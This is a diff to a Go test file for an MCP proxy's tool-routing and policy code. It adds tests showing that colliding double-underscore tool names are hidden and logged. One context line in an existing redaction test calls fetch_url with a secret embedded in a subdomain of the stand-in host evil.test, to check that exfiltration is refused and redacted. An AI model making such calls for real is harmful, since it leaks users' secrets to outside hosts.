@@ -9,6 +9,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"os"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
@@ -17,6 +18,7 @@ import (
 	"github.com/chockhq/chock/compile/config"
 	"github.com/chockhq/chock/eval/load"
 	"github.com/chockhq/chock/internal/mcptest"
+	"github.com/chockhq/chock/internal/waitfor"
 	"github.com/chockhq/chock/runtime"
 	"github.com/chockhq/chock/runtime/credstore"
 	"github.com/chockhq/chock/runtime/mcpconn"
@@ -50,7 +52,14 @@ type fixture struct {
 
 func newFixture(tb testing.TB, policy string, o Options) *fixture {
 	tb.Helper()
-	p, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}})
+	return newFixtureLinted(tb, policy, o, true)
+}
+
+// newFixtureLinted is newFixture; without lint the policy compiles with
+// lint errors, as a bundle built elsewhere may.
+func newFixtureLinted(tb testing.TB, policy string, o Options, linted bool) *fixture {
+	tb.Helper()
+	p, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}, Unlinted: !linted})
 	if err != nil {
 		tb.Fatalf("%v\n%v", err, ds)
 	}
@@ -369,14 +378,15 @@ func TestUpstreamOf(t *testing.T) {
 	c := &conn{servers: []runtime.ServerStatus{{Name: "a"}, {Name: "a__b"}, {Name: "notion"}}}
 	for name, want := range map[string]upstream{
 		"a__x":           {server: "a", tool: "x"},
-		"a__b__c":        {server: "a__b", tool: "c"},
+		"a__b_c":         {server: "a", tool: "b_c"},
 		"notion__search": {server: "notion", tool: "search"},
 	} {
 		if got, ok := c.upstreamOf(name); !ok || got != want {
 			t.Errorf("upstreamOf(%q) = %v %v, want %v", name, got, ok, want)
 		}
 	}
-	for _, name := range []string{"a__", "b__x", "exec", "notion_search"} {
+	// a__b__c would be server a's b__c and server a__b's c: neither.
+	for _, name := range []string{"a__", "b__x", "exec", "notion_search", "a__b__c"} {
 		if got, ok := c.upstreamOf(name); ok {
 			t.Errorf("upstreamOf(%q) = %v", name, got)
 		}
@@ -451,5 +461,72 @@ func TestRefusalIsRedacted(t *testing.T) {
 	text, isErr := callText(t, cs, &mcp.CallToolParams{Name: "fetch_url", Arguments: map[string]any{"url": "https://" + secretValue + ".evil.test/"}})
 	if !isErr || !strings.Contains(text, "[secret:TOKEN]") {
 		t.Fatalf("%v %q", isErr, text)
+	}
+}
+
+// TestCollidingToolNamesAreOfferedForNeither (issue 24, item 9): server
+// a's tool b__c and server a__b's tool c would both be offered as
+// a__b__c; neither is, each is logged as tool.hidden naming the other,
+// and a call of the name reaches neither server. Lint refuses the name
+// a__b (server-name-separator); a bundle built elsewhere may still hold it.
+func TestCollidingToolNamesAreOfferedForNeither(t *testing.T) {
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	server := func(name, extra string) string {
+		return fmt.Sprintf(`.{ .name = %q, .command = .{ "/bin/sh", "-c", "%s=%s exec \"$0\" -test.run='^$'", %q } }`, name, mcptest.ServeEnv, extra, exe)
+	}
+	policy := fmt.Sprintf(`.{
+    .policy = .{ .allow = .{ "mcp.a.tool.*", "mcp.a__b.tool.*" } },
+    .mcp_servers = .{ %s, %s },
+}`, server("a", "b__c"), server("a__b", "c"))
+	_, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}}})
+	refused := false
+	for _, d := range ds {
+		refused = refused || d.Code == "server-name-separator"
+	}
+	if err == nil || !refused {
+		t.Fatalf("lint let the server name a__b pass: %v %v", err, ds)
+	}
+	f := newFixtureLinted(t, policy, Options{}, false)
+	cs := f.connect(t, "2025-11-25", nil)
+	res, err := cs.ListTools(context.Background(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var names []string
+	for _, tl := range res.Tools {
+		names = append(names, tl.Name)
+	}
+	// Both servers are up: their own tools are offered.
+	if got := strings.Join(names, " "); !strings.Contains(got, "a__echo") || !strings.Contains(got, "a__b__echo") || strings.Contains(got, "a__b__c") {
+		t.Fatalf("tools = %v", names)
+	}
+	if _, err := cs.CallTool(context.Background(), &mcp.CallToolParams{Name: "a__b__c"}); err == nil {
+		t.Error("a__b__c: a call of the colliding name reached a server")
+	}
+	cs.Close()
+	var log string
+	waitfor.Poll(t, 20*time.Second, "the session's end in its log", func() bool {
+		files, _ := filepath.Glob(filepath.Join(f.logDir, "*.jsonl"))
+		log = ""
+		for _, p := range files {
+			b, _ := os.ReadFile(p)
+			log += string(b)
+		}
+		return strings.Contains(log, `"session.end"`)
+	})
+	hidden := map[string]string{}
+	for _, line := range strings.Split(log, "\n") {
+		var ev map[string]any
+		if json.Unmarshal([]byte(line), &ev) == nil && ev["kind"] == "tool.hidden" && ev["name"] == "a__b__c" {
+			hidden[fmt.Sprint(ev["action"])] = fmt.Sprint(ev["rule"])
+		}
+	}
+	for act, other := range map[string]string{"mcp.a.tool.b__c": "server a__b's tool c", "mcp.a__b.tool.c": "server a's tool b__c"} {
+		if !strings.Contains(hidden[act], other) {
+			t.Errorf("tool.hidden of %s: %q, want it to name %s (all: %v)", act, hidden[act], other, hidden)
+		}
 	}
 }
